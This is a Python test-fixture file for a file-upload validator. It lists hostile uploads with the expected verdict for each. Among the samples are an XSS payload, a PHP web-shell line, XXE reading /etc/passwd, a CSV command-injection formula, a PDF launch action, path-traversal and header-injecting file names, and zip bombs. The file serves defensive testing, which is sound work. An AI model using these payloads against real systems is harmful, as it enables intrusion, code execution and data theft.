"""The hostile files, each with what must become of it.

An expectation is a word of ``Fault``: it is refused; or COPY: people get the picture drawn anew and nothing else of it;
or BYTES: it comes in and is only ever a download of unnamed bytes, which no browser shows.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from files.choices import Fault
from files.tests.factories import EICAR, TYPES, archive, document, picture

COPY, BYTES = "copy", "bytes"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
EXE = b"MZ\x90\x00" + b"\x00" * 56 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
VBA = "_VBA_PROJECT".encode("utf-16-le")
LOCK = "EncryptedPackage".encode("utf-16-le")


@dataclass(frozen=True)
class Hostile:
    """One file: what is wrong with it, the name it comes with, its content, and what must become of it."""

    what: str
    name: str
    make: Callable[[], bytes]
    becomes: str


def png_of(width: int, height: int) -> bytes:
    """A picture that says that it is this large, packed as small as it gets."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    line = b"\x00" * (width // 8 + 2)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(line) for _ in range(min(height, 12_000))) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def png_with_text(text: str, *, packed: bool) -> bytes:
    """A picture with a remark."""
    remarks = PngImagePlugin.PngInfo()
    remarks.add_text("Comment", text, zip=packed)
    return picture("PNG", pnginfo=remarks)


def gif_and_script() -> bytes:
    """A picture that is a program for a browser too."""
    return b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1);//"


def many_frames() -> bytes:
    """A moving picture."""
    drawn = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in range(0, 250, 2)]
    frames[0].save(drawn, "GIF", save_all=True, append_images=frames[1:], loop=0)
    return drawn.getvalue()


def locked_archive() -> bytes:
    """A document whose parts say that they are encrypted."""
    packed = bytearray(document())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = packed.find(mark)
        while start >= 0:
            packed[start + offset] |= 1
            start = packed.find(mark, start + 4)
    return bytes(packed)


def overlapping() -> bytes:
    """A document whose directory names the same packed bytes two thousand times."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", b"\0" * 1_000_000)
        again = made.filelist[-1]
        made.filelist += [again] * 2_000
    return packed.getvalue()


def bomb() -> bytes:
    """Three hundred megabytes of nothing."""
    return document(word__media__image1_dot_png=b"\0" * 300_000_000)


def with_icc(size: int) -> bytes:
    """A picture with a colour profile of that size."""
    return picture("JPEG", icc_profile=b"\x00" * size)


def remote_template() -> bytes:
    """A document that fetches its template from elsewhere."""
    link = b'<Relationship Target="http://evil.example/t.dotm" TargetMode="External"/>'
    return document(word___rels__settings_dot_xml_dot_rels=link)


JPG, PNG = picture, lambda: picture("PNG")

HOSTILE = [
    # what a scanner, not the look into the content, has to find; until then it is only bytes
    Hostile("the test virus as text", "eicar.txt", lambda: EICAR, BYTES),
    Hostile("the test virus as program", "eicar.com", lambda: EICAR, Fault.UNKNOWN_KIND),
    Hostile("the test virus as picture", "eicar.jpg", lambda: EICAR, Fault.NOT_AS_NAMED),
    Hostile("the test virus in a document", "a.docx", lambda: document(word__x_dot_bin=EICAR), BYTES),
    Hostile("the test virus in an archive", "a.zip", lambda: archive({"e.com": EICAR}), Fault.UNKNOWN_KIND),
    Hostile("the test virus in an archive in an archive", "a.docx",
            lambda: document(word__a_dot_zip=archive({"e.com": EICAR})), Fault.HAS_ARCHIVE),
    # archives that unpack without end
    Hostile("a document of 300 MB of nothing", "bomb.docx", bomb, Fault.TOO_DENSE),
    Hostile("a bomb of parts that overlap", "bomb2.docx", overlapping, Fault.TOO_DENSE),
    Hostile("a document of 3,100 parts", "parts.docx",
            lambda: document(**{f"word__p{n}": b"x" for n in range(3_100)}), Fault.TOO_DENSE),
    Hostile("a bomb as spreadsheet", "b.xlsx", lambda: document("xlsx", xl__a=b"\0" * 30_000_000), Fault.TOO_DENSE),
    Hostile("nested archives", "n.pptx",
            lambda: document("pptx", a_dot_zip=archive({"b.zip": archive({"c.zip": b"x"})})), Fault.HAS_ARCHIVE),
    Hostile("gzip", "a.gz", lambda: zlib.compress(b"x" * 1000), Fault.UNKNOWN_KIND),
    Hostile("a RAR archive", "a.rar", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 50, Fault.UNKNOWN_KIND),
    Hostile("a RAR archive as document", "a.docx", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 50, Fault.NOT_AS_NAMED),
    # documents with programs inside
    Hostile("macros", "m.docx", lambda: document(word__vbaProject_dot_bin=b"x"), Fault.HAS_MACROS),
    Hostile("macros under their own name", "m.docm", lambda: document(word__vbaProject_dot_bin=b"x"), Fault.UNKNOWN_KIND),
    Hostile("macros in a spreadsheet", "m.xlsx", lambda: document("xlsx", xl__vbaProject_dot_bin=b"x"), Fault.HAS_MACROS),
    Hostile("macros in slides", "m.pptx", lambda: document("pptx", ppt__VBAPROJECT_dot_BIN=b"x"), Fault.HAS_MACROS),
    Hostile("macros by the list of contents", "m.docx",
            lambda: archive({"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml",
                             "word/document.xml": b"x"}), Fault.HAS_MACROS),
    Hostile("macros in the old format", "m.doc", lambda: OLE + VBA, Fault.HAS_MACROS),
    Hostile("macros in an old spreadsheet", "m.xls", lambda: OLE + VBA, Fault.HAS_MACROS),
    Hostile("macros in an open document", "m.odt",
            lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/m.xml": b"x"}),
            Fault.HAS_MACROS),
    Hostile("a template from elsewhere", "t.docx", remote_template, Fault.HAS_MACROS),
    Hostile("a program inside", "p.docx", lambda: document(word__embeddings__a_dot_exe=EXE), Fault.HAS_ARCHIVE),
    Hostile("a script inside", "p.xlsx", lambda: document("xlsx", xl__a_dot_vbs=b"x"), Fault.HAS_ARCHIVE),
    Hostile("a link to a program inside", "p.docx", lambda: document(word__a_dot_lnk=b"x"), Fault.HAS_ARCHIVE),
    # documents that can't be looked into
    Hostile("a document with a password", "l.docx", lambda: OLE + LOCK, Fault.LOCKED),
    Hostile("an old document with a password", "l.doc", lambda: OLE + LOCK, Fault.LOCKED),
    Hostile("an archive with a password", "l.docx", locked_archive, Fault.LOCKED),
    # documents that aren't any
    Hostile("parts that climb out of the folder", "c.docx", lambda: document(**{"..__..__etc__passwd": b"x"}), Fault.DAMAGED),
    Hostile("parts with an absolute path", "c.docx", lambda: document(__etc__passwd=b"x"), Fault.DAMAGED),
    Hostile("half a document", "h.docx", lambda: document()[:60], Fault.DAMAGED),
    Hostile("an archive named document", "z.docx", lambda: archive({"a.txt": b"x"}), Fault.NOT_AS_NAMED),
    Hostile("a spreadsheet named document", "x.docx", lambda: document("xlsx"), Fault.NOT_AS_NAMED),
    Hostile("an archive named open document", "z.odt", lambda: archive({"mimetype": b"text/html"}), Fault.NOT_AS_NAMED),
    Hostile("a web page named document", "w.doc", lambda: HTML, Fault.NOT_AS_NAMED),
    Hostile("a program named document", "p.doc", lambda: EXE, Fault.NOT_AS_NAMED),
    Hostile("a document before a web page", "w.docx", lambda: document() + HTML, BYTES),
    Hostile("a Java program named document", "j.docx",
            lambda: archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}), Fault.NOT_AS_NAMED),
    # two kinds at once
    Hostile("a picture and a script", "p.gif", gif_and_script, COPY),
    Hostile("a picture before a web page", "p.jpg", lambda: picture() + HTML, COPY),
    Hostile("a picture before an archive", "p.jpg", lambda: picture() + archive({"e.exe": EXE}), COPY),
    Hostile("a picture before a program", "p.png", lambda: PNG() + EXE, COPY),
    Hostile("a picture before PHP", "p.jpg", lambda: picture() + b"<?php system($_GET['c']); ?>", COPY),
    Hostile("PHP in a remark", "p.png", lambda: png_with_text("<?php system('id'); ?>", packed=False), COPY),
    Hostile("a script in a JPEG remark", "p.jpg", lambda: picture(comment=SCRIPT), COPY),
    Hostile("a PDF with a web page behind", "p.pdf", lambda: PDF + HTML, BYTES),
    Hostile("a PDF behind a web page", "p.pdf", lambda: HTML + PDF, Fault.NOT_AS_NAMED),
    Hostile("a PDF with JavaScript", "p.pdf", lambda: PDF + b"<</S/JavaScript/JS(app.alert(1))>>", BYTES),
    Hostile("a PDF that starts programs", "p.pdf", lambda: PDF + b"<</S/Launch/F(cmd.exe)>>", BYTES),
    Hostile("a PDF named picture", "p.jpg", lambda: PDF, Fault.NOT_AS_NAMED),
    Hostile("a picture named PDF", "p.pdf", JPG, Fault.NOT_AS_NAMED),
    Hostile("a video with a web page behind", "v.mp4", lambda: MP4 + HTML, BYTES),
    Hostile("sound with a web page behind", "s.mp3", lambda: b"ID3\x04\x00" + b"\x00" * 20 + HTML, BYTES),
    # what a browser would run
    Hostile("a drawing with a script", "d.svg", lambda: SVG, Fault.UNKNOWN_KIND),
    Hostile("a drawing with a script named picture", "d.jpg", lambda: SVG, Fault.NOT_AS_NAMED),
    Hostile("a web page", "w.html", lambda: HTML, Fault.UNKNOWN_KIND),
    Hostile("a web page in upper case", "W.HTML", lambda: HTML, Fault.UNKNOWN_KIND),
    Hostile("a web page named text", "w.txt", lambda: HTML, BYTES),
    Hostile("a drawing named text", "d.txt", lambda: SVG, BYTES),
    Hostile("a web page named picture", "w.png", lambda: HTML, Fault.NOT_AS_NAMED),
    Hostile("a web page named video", "w.mp4", lambda: HTML, Fault.NOT_AS_NAMED),
    Hostile("a script", "s.js", lambda: b"alert(1)", Fault.UNKNOWN_KIND),
    Hostile("XML with an entity from elsewhere", "x.xml",
            lambda: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', Fault.UNKNOWN_KIND),
    Hostile("a web archive", "w.mht", lambda: b"MIME-Version: 1.0\r\n\r\n" + HTML, Fault.UNKNOWN_KIND),
    Hostile("a table with a formula", "t.csv", lambda: b"=cmd|'/C calc'!A0,1\r\n", BYTES),
    # programs
    Hostile("a program", "a.exe", lambda: EXE, Fault.UNKNOWN_KIND),
    Hostile("a program named picture", "a.jpg", lambda: EXE, Fault.NOT_AS_NAMED),
    Hostile("a Linux program named video", "a.mp4", lambda: ELF, Fault.NOT_AS_NAMED),
    Hostile("a program named text", "a.txt", lambda: EXE, Fault.NOT_AS_NAMED),
    Hostile("an app for phones", "a.apk", lambda: archive({"AndroidManifest.xml": b"x"}), Fault.UNKNOWN_KIND),
    Hostile("a shortcut", "a.lnk", lambda: b"L\x00\x00\x00" + b"\0" * 72, Fault.UNKNOWN_KIND),
    # names
    Hostile("a name that reads backwards", "photo\u202egpj.exe", lambda: EXE, Fault.UNKNOWN_KIND),
    Hostile("a picture whose name reads backwards", "exe.\u202egnp.jpg", JPG, COPY),
    Hostile("a name that climbs out of the folder", "../../../etc/cron.d/x.jpg", JPG, COPY),
    Hostile("the same on Windows", "..\\..\\windows\\x.jpg", JPG, COPY),
    Hostile("two ends of a name", "photo.jpg.exe", lambda: EXE, Fault.UNKNOWN_KIND),
    Hostile("two ends, the last one harmless", "photo.php.jpg", JPG, COPY),
    Hostile("a name of 300 characters", "长" * 300 + ".jpg", JPG, COPY),
    Hostile("a NUL in the name", "a.php\x00.jpg", JPG, COPY),
    Hostile("a NUL before another end", "a.jpg\x00.php", lambda: b"<?php", Fault.UNKNOWN_KIND),
    Hostile("line feeds in the name", "a.jpg\r\nSet-Cookie: x=1.jpg", JPG, COPY),
    Hostile("a tag in the name", '"><img src=x onerror=alert(1)>.jpg', JPG, COPY),
    Hostile("the name of a device", "CON.jpg", JPG, COPY),
    Hostile("a name of dots", "....jpg", JPG, COPY),
    Hostile("a name without an end", "photo", JPG, Fault.UNKNOWN_KIND),
    Hostile("no visible name", "\u200b\u200e.jpg", JPG, COPY),
    Hostile("an end with a blank", "a.exe .jpg", JPG, COPY),
    Hostile("the name of a hidden file", ".htaccess", lambda: b"AddType x", Fault.UNKNOWN_KIND),
    Hostile("a stream of another file", "a.jpg::$DATA", JPG, Fault.UNKNOWN_KIND),
    # pictures that cost too much, or are broken
    Hostile("100 megapixels", "big.png", lambda: png_of(10_000, 10_000), Fault.TOO_MANY_PIXELS),
    Hostile("a picture of 3,600 megapixels", "huge.png", lambda: png_of(60_000, 60_000), Fault.TOO_MANY_PIXELS),
    Hostile("a picture of one line, too long", "long.png", lambda: png_of(200_000_000, 1), Fault.TOO_MANY_PIXELS),
    Hostile("half a JPEG", "half.jpg", lambda: picture(size=(400, 400))[:700], Fault.DAMAGED),
    Hostile("half a PNG", "half.png", lambda: picture("PNG", size=(400, 400), colour="red")[:90], Fault.DAMAGED),
    Hostile("half a GIF", "half.gif", lambda: picture("GIF", size=(400, 400))[:300], Fault.DAMAGED),
    Hostile("half a WebP", "half.webp", lambda: picture("WEBP", size=(400, 400))[:60], Fault.DAMAGED),
    Hostile("only the first bytes of a picture", "head.jpg", lambda: b"\xff\xd8\xff\xe0", Fault.DAMAGED),
    Hostile("a picture of no size", "zero.png", lambda: png_of(0, 0), Fault.DAMAGED),
    Hostile("noise after the head of a picture", "noise.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\xaa" * 500, Fault.DAMAGED),
    Hostile("a huge colour profile", "icc.jpg", lambda: with_icc(8_000_000), COPY),
    Hostile("a colour profile that makes no sense", "icc.jpg", lambda: with_icc(100), COPY),
    Hostile("a remark that unpacks to 80 MB", "text.png",
            lambda: png_with_text("x" * 80_000_000, packed=True), Fault.DAMAGED),
    Hostile("125 frames", "film.gif", many_frames, COPY),
    Hostile("a PNG named JPEG", "p.jpg", PNG, COPY),
    Hostile("a Photoshop file named picture", "p.jpg", lambda: b"8BPS\x00\x01" + b"\0" * 100, Fault.NOT_AS_NAMED),
    Hostile("PostScript named picture", "p.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run", Fault.NOT_AS_NAMED),
    # nothing, and too much
    Hostile("an empty file", "a.jpg", lambda: b"", Fault.EMPTY),
    Hostile("an empty text", "a.txt", lambda: b"", Fault.EMPTY),
    Hostile("more than 20 MB", "a.txt", lambda: b"x" * (20 * 1024 * 1024 + 1), Fault.TOO_LARGE),
    Hostile("a text of control characters", "a.txt", lambda: b"a\x00b\x07", Fault.NOT_AS_NAMED),
    Hostile("bytes that are no text", "a.txt", lambda: bytes(range(128, 256)) * 3 + b"\xff", Fault.NOT_AS_NAMED),
]  # fmt: skip
